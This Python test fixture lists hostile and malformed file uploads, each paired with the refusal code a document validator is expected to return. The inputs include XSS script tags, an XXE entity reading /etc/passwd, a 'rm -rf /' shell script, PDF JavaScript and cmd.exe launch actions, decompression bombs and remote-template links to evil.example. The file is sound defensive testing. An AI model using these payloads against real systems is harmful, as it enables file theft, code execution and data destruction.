"""Hostile and unlucky uploads, each with the reason it is refused for."""

import functools

from tests.documents.samples import archive, docx, odt, pdf, picture, png_of

STUB = b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in DOS mode"
RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.example/relationships/%s" '
    'Target="%s" TargetMode="External"/></Relationships>'
)
ENTITY = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
SCRIPT = {"S": "/JavaScript", "JS": "(app.alert\\(1\\))"}


def bomb(megabytes: int) -> bytes:
    return docx(word__media__a_dot_xml=b"\0" * megabytes * 2**20)


@functools.cache
def locked_pdf() -> bytes:
    return pdf().replace(
        b"/Root",
        b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >> "
        b"/ID [<00> <00>] /Root" % (b"00" * 32, b"11" * 32),
        1,
    )


# name of the file, content, reason (the refusal's code)
REFUSED = [
    ("空.pdf", lambda: b"", "empty"),
    ("大きい.pdf", lambda: b"%PDF-1.7" + b"\0" * (10 * 2**20), "too_large"),
    ("page.html", lambda: b"<!DOCTYPE html><script>alert(1)</script>", "markup"),
    ("html.pdf", lambda: b"<html><body>x</body></html>", "markup"),
    ("html.png", lambda: b"\xef\xbb\xbf \n<HTML><script>", "markup"),
    ("html.txt", lambda: "<html>".encode("utf-16"), "markup"),
    ("late.txt", lambda: b"hello\n<script>alert(1)</script>", "markup"),
    ("drawing.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>", "markup"),
    ("drawing.png", lambda: b"<?xml version='1.0'?><svg><script/></svg>", "markup"),
    ("data.xml", ENTITY.encode, "markup"),
    ("setup.exe", lambda: STUB, "program"),
    ("企画書.pdf", lambda: STUB, "program"),
    ("run.txt", lambda: b"#!/bin/sh\nrm -rf /", "program"),
    ("tool.png", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 50, "program"),
    ("old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
    ("写真.heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "heic"),
    ("a.gif", lambda: picture("GIF"), "unknown_type"),
    ("a.js", lambda: b"alert(1)", "unknown_type"),
    ("a.pdf", "ただの文".encode, "unknown_type"),
    ("a.zip", lambda: archive({"a.txt": "x"}), "archive"),
    ("a.docx", lambda: archive({"a.txt": "x"}), "archive"),
    ("a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, "archive"),
    ("a.rar", lambda: b"Rar!\x1a\x07\x00" + b"\0" * 40, "archive"),
    ("a.epub", lambda: archive({"mimetype": "application/epub+zip"}), "unknown_type"),
    ("front.pdf", lambda: b"GIF89a;\n" + pdf(), "mixed"),
    ("back.pdf", lambda: pdf() + archive({"a.exe": STUB}), "mixed"),
    ("inside.pdf", lambda: pdf().replace(b"%%EOF", archive({"a": "b"}) + b"%%EOF"), "mixed"),
    ("cut.pdf", lambda: pdf()[:300], "broken"),
    ("hollow.pdf", lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF", "broken"),
    ("locked.pdf", locked_pdf, "password"),
    ("script.pdf", lambda: pdf(OpenAction=SCRIPT), "script"),
    ("hidden.pdf", lambda: pdf(OpenAction=SCRIPT, compress=True), "script"),
    ("spelt.pdf", lambda: pdf(OpenAction={"S": "/J#61vaScr#69pt"}), "script"),
    ("launch.pdf", lambda: pdf(OpenAction={"S": "/Launch", "F": "(cmd.exe)"}), "script"),
    ("files.pdf", lambda: pdf(Names={"EmbeddedFiles": "<< >>"}), "embedded_file"),
    ("cut.docx", lambda: docx()[:-40], "broken"),
    ("front.docx", lambda: b"PK\x03\x04junk" + docx(), "mixed"),
    ("back.docx", lambda: docx() + pdf(), "mixed"),
    ("bomb.docx", lambda: bomb(300), "bomb"),
    ("dense.docx", lambda: bomb(60), "bomb"),
    ("parts.docx", lambda: archive({f"p{n}": "" for n in range(5_001)}), "bomb"),
    ("macro.docx", lambda: docx(word__vbaProject_dot_bin=b"x"), "macro"),
    ("basic.odt", lambda: odt(**{"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
    ("exe.docx", lambda: docx(word__embeddings__a_dot_exe=b"x"), "embedded_program"),
    ("ole.docx", lambda: docx(word__embeddings__o_dot_bin=b"\0" * 99 + STUB), "embedded_program"),
    ("xxe.docx", lambda: docx(word__document_dot_xml=ENTITY), "xml_trick"),
    ("wide.docx", lambda: docx(word__a_dot_xml=ENTITY.encode("utf-16")), "xml_trick"),
    (
        "coded.docx",
        lambda: docx(
            word___rels__document_dot_xml_dot_rels=RELATION
            % ("attachedTemplate", "&#104;ttp://evil.example/&gt;&lt;")
        ),
        "external",
    ),
    ("slow.pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 300_000 + b"startxref\n5\n%%EOF", "broken"),
    (
        "streams.pdf",
        lambda: pdf(author="/ObjStm " * 10_001),
        "bomb",
    ),
    ("rich.rtf", lambda: b"{\\rtf1 x}", "unknown_type"),
    (
        "remote.docx",
        lambda: docx(
            word___rels__document_dot_xml_dot_rels=RELATION
            % ("oleObject", "http://evil.example/x!")
        ),
        "external",
    ),
    ("huge.png", lambda: png_of(60_000, 60_000), "bomb"),
    ("wide.png", lambda: png_of(9_000, 9_000), "pixels"),
    ("wide.webp", lambda: picture("WEBP", (4_000, 3_000)), "pixels"),
    ("cut.jpg", lambda: picture(size=(400, 300))[:-200], "broken"),
    ("fake.jpg", lambda: b"\xff\xd8\xff\xe0" + b"x" * 500, "broken"),
    ("名簿.csv", lambda: b"\x81\xff\xfe\x00", "not_text"),
    ("ねこ.txt", lambda: b"\xa5\xff\x80abc", "not_text"),
]
